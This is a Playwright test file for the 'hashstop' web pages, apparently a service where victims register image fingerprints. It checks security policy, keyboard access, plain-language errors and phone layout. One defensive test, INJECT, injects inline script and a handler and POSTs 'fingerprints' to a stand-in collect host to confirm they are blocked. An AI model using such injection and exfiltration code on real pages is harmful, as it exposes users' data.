"""The victim pages and /docs in real Chromium: the Content-Security-Policy holds (no violation,
injected inline code and foreign requests refused), the pages work from the keyboard with
labelled controls, fit a 360 px phone screen, and put API errors into plain words.
"""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import expect

from hashstop.web.rendering import CONTENT_SECURITY_POLICY
from tests.web.live_service import LiveService
from tests.web.recording import Recorder

pytestmark = pytest.mark.chromium

WAIT_MS = 60_000


@dataclass
class Browsing:
    page: Any
    recorder: Recorder
    url: str


@pytest.fixture
def browsing(browser: Any, live_service: LiveService) -> Iterator[Browsing]:
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    recorder = Recorder().attach(context)
    try:
        yield Browsing(context.new_page(), recorder, live_service.url)
    finally:
        context.close()


@pytest.fixture
def phone(browser: Any, live_service: LiveService) -> Iterator[Browsing]:
    context = browser.new_context(
        viewport={"width": 360, "height": 740}, is_mobile=True, has_touch=True
    )
    recorder = Recorder().attach(context)
    try:
        yield Browsing(context.new_page(), recorder, live_service.url)
    finally:
        context.close()


def conformance_payload(conformance: dict[str, Any], relative: str) -> dict[str, Any]:
    case = next(c for c in conformance["cases"] if c["file"] == relative)
    return {
        "name": case["path"].name,
        "mimeType": "image/jpeg",
        "buffer": case["path"].read_bytes(),
    }


def open_case_by_api(live_service: LiveService, conformance: dict[str, Any]) -> tuple[str, str]:
    """A case opened straight through the API: (case id, secret)."""
    case = next(c for c in conformance["cases"] if c["file"].endswith("q0746.jpg"))
    body = {"hashes": [{"algorithm": "pdq", "value": case["pdq"], "quality": case["quality"]}]}
    with live_service.api() as api:
        opened = api.post("/v1/cases", json=body).json()
    return opened["case_id"], opened["secret"]


# --- Content-Security-Policy ----------------------------------------------------------------

NO_INLINE_CODE = """() => ({
  // A data block (type="application/json": the page's messages) is not code and never runs.
  inlineScripts: [...document.scripts]
    .filter((s) => !s.src && s.type !== "application/json").length,
  handlers: [...document.querySelectorAll("*")].flatMap(
    (e) => [...e.attributes].filter((a) => a.name.startsWith("on")).map((a) => a.name)),
})"""


@pytest.mark.parametrize("path", ["/", "/submit", "/case", "/docs"])
def test_page_loads_cleanly_under_the_policy(browsing: Browsing, path: str) -> None:
    page = browsing.page
    response = page.goto(f"{browsing.url}{path}")
    assert response is not None and response.status == 200
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    if path == "/docs":  # Swagger UI, from packaged files, rendered the API
        expect(page.locator(".opblock-summary-path", has_text="/v1/cases").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert page.evaluate(NO_INLINE_CODE) == {"inlineScripts": 0, "handlers": []}
    assert browsing.recorder.csp_violations() == []
    assert browsing.recorder.console_errors() == []
    assert {r.origin for r in browsing.recorder.requests} == {browsing.url}


INJECT = """() => new Promise((resolve) => {
  const violations = [];
  document.addEventListener("securitypolicyviolation",
    (e) => violations.push(e.effectiveDirective));
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
  const div = document.createElement("div");
  div.setAttribute("onclick", "window.clicked = true");
  document.body.append(div);
  div.click();
  fetch("http://127.0.0.2:9/collect", { method: "POST", body: "fingerprints" }).then(
    () => "sent", () => "refused",
  ).then((fetched) => setTimeout(() => resolve({
    injected: window.injected ?? false, clicked: window.clicked ?? false, fetched,
    violations: [...new Set(violations)].sort(),
  }), 200));
})"""


def test_injected_inline_code_and_foreign_requests_are_refused(browsing: Browsing) -> None:
    browsing.page.goto(f"{browsing.url}/submit")
    outcome = browsing.page.evaluate(INJECT)
    assert outcome == {
        "injected": False,
        "clicked": False,
        "fetched": "refused",
        "violations": ["connect-src", "script-src-attr", "script-src-elem"],
    }
    assert all("127.0.0.2" not in r.url for r in browsing.recorder.requests)


# --- Keyboard and labels --------------------------------------------------------------------

# The focused element as "tag#id|its name" (aria-label, else its label, else its text).
DESCRIBE_FOCUS = """() => {
  const e = document.activeElement;
  const name = e.getAttribute("aria-label") || (e.labels?.length ? e.labels[0] : e).textContent;
  return `${e.tagName.toLowerCase()}#${e.id}|${name.trim()}`;
}"""


def tab_until(page: Any, wanted: str, limit: int = 40) -> list[str]:
    """Press Tab until the focused element's id is `wanted`; the focus stops on the way."""
    stops: list[str] = []
    for _ in range(limit):
        page.keyboard.press("Tab")
        stops.append(page.evaluate(DESCRIBE_FOCUS))
        if stops[-1].split("|")[0].endswith(f"#{wanted}"):
            return stops
    raise AssertionError(f"Tab never reached #{wanted}; stops: {stops}")


def focused_id(page: Any) -> str:
    return str(page.evaluate("document.activeElement?.id"))


def test_submit_page_works_from_the_keyboard(
    browsing: Browsing, conformance: dict[str, Any]
) -> None:
    page = browsing.page
    page.goto(f"{browsing.url}/submit")
    stops = tab_until(page, "submit-files")
    assert stops[0] == "a#|Skip to content"
    assert [s.split("|")[1] for s in stops[1:6]] == [
        "Quick exit",  # first, so one Tab reaches it
        "hashstop",
        "How it works",
        "Register photos",
        "Your case",
    ]
    picker = page.get_by_label("Choose photos or videos")
    assert picker.get_attribute("type") == "file" and picker.get_attribute("multiple") is not None
    # The native file dialog cannot be driven headless; the files arrive as a person's would.
    picker.set_input_files([conformance_payload(conformance, "images/bridge-mods/aaa-orig.jpg")])
    expect(page.get_by_role("progressbar", name="Fingerprinting aaa-orig.jpg")).to_be_visible()
    expect(page.get_by_role("button", name="Send the fingerprints")).to_be_enabled(timeout=WAIT_MS)
    expect(page.locator("#submit-status")).to_have_text(
        "The file is fingerprinted. Nothing has been sent yet."
    )
    stops = tab_until(page, "send")
    assert [s.split("|")[1] for s in stops] == [
        "Hide thumbnails",
        "Remove aaa-orig.jpg",
        "Show exactly what will be sent",
        "Send the fingerprints",
    ]
    page.keyboard.press("Enter")
    expect(page.locator("#receipt")).to_be_visible(timeout=WAIT_MS)
    assert focused_id(page) == "receipt-title"  # the result is where the focus went
    stops = tab_until(page, "download-receipt")
    assert [s.split("|")[1] for s in stops] == [
        "Copy the case id",
        "Copy the secret",
        "Download receipt",
    ]


def test_case_page_works_from_the_keyboard(
    browsing: Browsing, live_service: LiveService, conformance: dict[str, Any]
) -> None:
    case_id, secret = open_case_by_api(live_service, conformance)
    page = browsing.page
    page.goto(f"{browsing.url}/case")
    secret_field = page.get_by_label("Secret", exact=True)
    assert secret_field.get_attribute("type") == "password"
    assert secret_field.get_attribute("autocomplete") == "off"
    assert page.get_by_label("Case id").get_attribute("autocomplete") == "off"

    tab_until(page, "case-id")
    page.keyboard.type(case_id)
    page.keyboard.press("Tab")
    assert focused_id(page) == "case-secret"
    page.keyboard.type(secret)
    page.keyboard.press("Tab")
    assert focused_id(page) == "toggle-secret"
    page.keyboard.press("Space")  # show the secret, to check it
    assert secret_field.get_attribute("type") == "text"
    expect(page.get_by_role("button", name="Hide")).to_have_attribute("aria-pressed", "true")
    page.keyboard.press("Space")
    assert secret_field.get_attribute("type") == "password"
    tab_until(page, "open-case")
    page.keyboard.press("Enter")
    expect(page.locator("#case-view")).to_be_visible()
    assert focused_id(page) == "case-title"
    expect(page.locator("#fact-status")).to_contain_text("Active")

    stops = tab_until(page, "withdraw-start")
    assert [s.split("|")[1] for s in stops] == [
        "Refresh",
        "Forget this case on this page",
        "Choose more photos or videos",
        "Withdraw my case…",
    ]
    page.keyboard.press("Enter")
    assert focused_id(page) == "withdraw-confirm-title"
    stops = tab_until(page, "withdraw-cancel")
    assert [s.split("|")[1] for s in stops] == ["Yes, withdraw my case", "No, keep my case"]
    page.keyboard.press("Enter")  # changed my mind
    expect(page.locator("#withdraw-confirm")).to_be_hidden()
    assert focused_id(page) == "withdraw-start"
    with live_service.api() as api:
        still = api.get(f"/v1/cases/{case_id}", headers={"Authorization": f"Bearer {secret}"})
    assert still.json()["status"] == "active"

    # And now withdraw it for real, from the keyboard alone.
    page.keyboard.press("Enter")  # "Withdraw my case…" has the focus
    assert focused_id(page) == "withdraw-confirm-title"
    tab_until(page, "withdraw-yes")
    page.keyboard.press("Enter")
    expect(page.locator("#fact-status")).to_contain_text("Withdrawn", timeout=WAIT_MS)
    assert focused_id(page) == "case-title"
    with live_service.api() as api:
        gone = api.get(f"/v1/cases/{case_id}", headers={"Authorization": f"Bearer {secret}"})
    assert gone.json()["status"] == "withdrawn"


# --- Errors in plain words ------------------------------------------------------------------


def test_wrong_secret_is_explained(
    browsing: Browsing, live_service: LiveService, conformance: dict[str, Any]
) -> None:
    case_id, _ = open_case_by_api(live_service, conformance)
    page = browsing.page
    page.goto(f"{browsing.url}/case")
    page.get_by_label("Case id").fill(case_id)
    page.get_by_label("Secret", exact=True).fill("hsc_AAAAA-BBBBB-CCCCC-DDDDD-EEEEE")
    page.get_by_role("button", name="Open my case").click()
    expect(page.get_by_role("alert")).to_have_text(
        "We could not find a case with this case id and secret. Check both (the receipt has "
        "them) and try again."
    )
    expect(page.locator("#case-view")).to_be_hidden()


def test_refused_fingerprints_are_explained(
    browsing: Browsing, conformance: dict[str, Any]
) -> None:
    """The service's refusals are listed by file (its answer stubbed: no photo the page sends
    is refused by the real service, and a file the page knows cannot be protected never goes)."""
    page = browsing.page
    page.goto(f"{browsing.url}/submit")
    refusal = {
        "type": "about:blank",
        "title": "Unprocessable Content",
        "status": 422,
        "detail": "no hash could be accepted",
        "rejected": [{"index": 0, "reason": "too little detail (quality 12)"}],
    }
    page.route(
        "**/v1/cases",
        lambda route: route.fulfill(
            status=422, content_type="application/problem+json", body=json.dumps(refusal)
        ),
    )
    payload = conformance_payload(conformance, "images/bridge-mods/aaa-orig.jpg")
    page.get_by_label("Choose photos or videos").set_input_files([payload])
    send = page.get_by_role("button", name="Send the fingerprints")
    expect(send).to_be_enabled(timeout=WAIT_MS)
    send.click()
    alert = page.locator("#send-error")
    expect(alert).to_contain_text(
        "None of these fingerprints could be registered, so no case was opened:"
    )
    expect(alert).to_contain_text("aaa-orig.jpg: too little detail (quality 12)")
    expect(page.locator("#receipt")).to_be_hidden()


def test_network_failure_is_explained_and_retry_reuses_the_idempotency_key(
    browsing: Browsing, conformance: dict[str, Any]
) -> None:
    page = browsing.page
    page.goto(f"{browsing.url}/submit")
    page.route("**/v1/cases", lambda route: route.abort("internetdisconnected"))
    payload = conformance_payload(conformance, "images/bridge-mods/aaa-orig.jpg")
    page.get_by_label("Choose photos or videos").set_input_files([payload])
    send = page.get_by_role("button", name="Send the fingerprints")
    expect(send).to_be_enabled(timeout=WAIT_MS)
    send.click()
    expect(page.locator("#send-error")).to_have_text(
        "We could not reach the hashstop service. Check your internet connection and try again. "
        "Your photos are still only on this device."
    )
    assert focused_id(page) == "send"
    page.unroute("**/v1/cases")
    send.click()
    expect(page.locator("#receipt")).to_be_visible(timeout=WAIT_MS)
    attempts = browsing.recorder.to("POST", "/v1/cases")
    assert len(attempts) == 2
    keys = {r.headers["idempotency-key"] for r in attempts}
    assert len(keys) == 1  # the same submission, sent again, carries the same key
    bodies = {r.body for r in attempts}
    assert len(bodies) == 1
    sent = json.loads(attempts[0].body)["hashes"]
    md5 = hashlib.md5(payload["buffer"]).hexdigest()  # noqa: S324 - a fingerprint
    assert {h["algorithm"]: h["value"] for h in sent}["md5"] == md5


# --- A 360 px phone screen ------------------------------------------------------------------

NO_SIDEWAYS_SCROLL = "document.documentElement.scrollWidth <= window.innerWidth"


def test_pages_fit_a_narrow_phone_screen(
    phone: Browsing, live_service: LiveService, conformance: dict[str, Any]
) -> None:
    page = phone.page
    widths: dict[str, tuple[int, int]] = {}

    def measure(step: str) -> None:
        widths[step] = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")

    page.goto(f"{phone.url}/")
    measure("home")
    page.goto(f"{phone.url}/submit")
    measure("submit")
    page.get_by_label("Choose photos or videos").set_input_files(
        [conformance_payload(conformance, "images/exif-rotn/exif-rotn-8.jpg")]
        + [
            {
                "name": "VID_" + "0123456789" * 8 + ".mp4",  # no break opportunity
                "mimeType": "video/mp4",
                "buffer": b"v" * 4096,
            }
        ]
    )
    send = page.get_by_role("button", name="Send the fingerprints")
    expect(send).to_be_enabled(timeout=WAIT_MS)
    page.locator("details.payload summary").click()  # the long hex lines, shown
    measure("submit with files")
    send.click()
    expect(page.locator("#receipt")).to_be_visible(timeout=WAIT_MS)
    measure("receipt")
    case_id = page.locator("#case-id").inner_text()
    secret = page.locator("#case-secret").inner_text()
    page.goto(f"{phone.url}/case")
    measure("case")
    page.get_by_label("Case id").fill(case_id)
    page.get_by_label("Secret", exact=True).fill(secret)
    page.get_by_role("button", name="Open my case").click()
    expect(page.locator("#case-view")).to_be_visible()
    page.get_by_role("button", name="Withdraw my case…").click()
    measure("case open, withdrawal asked")
    assert all(scroll <= inner == 360 for scroll, inner in widths.values()), widths
    assert re.fullmatch(r"[0-9a-z]{13}", case_id)


# --- Thumbnails and the drop zone -----------------------------------------------------------

THUMBNAILS = """async () => Promise.all([...document.querySelectorAll(".thumb img")].map(
  async (img) => {
    const again = await new Promise((resolve) => {
      const probe = new Image();
      probe.onload = () => resolve("still loadable");
      probe.onerror = () => resolve("revoked");
      probe.src = img.src;
    });
    return { shown: img.complete && img.naturalWidth > 0, scheme: img.src.split(":")[0], again };
  }))"""

DROP = """([name, type, base64]) => {
  const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
  const transfer = new DataTransfer();
  transfer.items.add(new File([bytes], name, { type }));
  const zone = document.getElementById("submit-dropzone");
  zone.dispatchEvent(new DragEvent("dragover", { dataTransfer: transfer, cancelable: true }));
  const dragging = zone.classList.contains("dragging");
  zone.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, cancelable: true }));
  return dragging;
}"""


def test_thumbnails_are_local_object_urls_revoked_once_drawn(
    browsing: Browsing, conformance: dict[str, Any]
) -> None:
    page = browsing.page
    page.goto(f"{browsing.url}/submit")
    page.get_by_label("Choose photos or videos").set_input_files(
        [
            conformance_payload(conformance, "images/bridge-mods/aaa-orig.jpg"),
            conformance_payload(conformance, "images/labelme-subset/q0122.jpg"),
            {"name": "clip.mp4", "mimeType": "video/mp4", "buffer": b"\x00\x01" * 5000},
        ]
    )
    expect(page.get_by_role("button", name="Send the fingerprints")).to_be_enabled(timeout=WAIT_MS)
    assert page.evaluate(THUMBNAILS) == [
        {"shown": True, "scheme": "blob", "again": "revoked"},
        {"shown": True, "scheme": "blob", "again": "revoked"},
    ]
    expect(page.locator(".thumb.placeholder")).to_have_text("video")
    assert {r.origin for r in browsing.recorder.requests} == {browsing.url}


def test_dropped_files_are_fingerprinted(browsing: Browsing, conformance: dict[str, Any]) -> None:
    import base64

    page = browsing.page
    page.goto(f"{browsing.url}/submit")
    data = next(c for c in conformance["cases"] if c["file"].endswith("q0291.jpg"))["path"]
    encoded = base64.b64encode(data.read_bytes()).decode()
    assert page.evaluate(DROP, ["dropped.jpg", "image/jpeg", encoded]) is True
    expect(page.locator(".file", has_text="dropped.jpg").locator(".file-state")).to_have_text(
        "Fingerprinted.", timeout=WAIT_MS
    )
    # Its stored variants and local hashes (as Python computes them from the same file; this
    # photo has more keypoints than the 48 kept), MD5 and SHA-256.
    from hashstop.hashing import local_hashes, photo_variants

    sent = len(photo_variants(data)) + len(local_hashes(data)) + 2
    assert sent > 3
    expect(page.locator("#summary")).to_contain_text(f"Ready to send 1 photo: {sent} fingerprints")
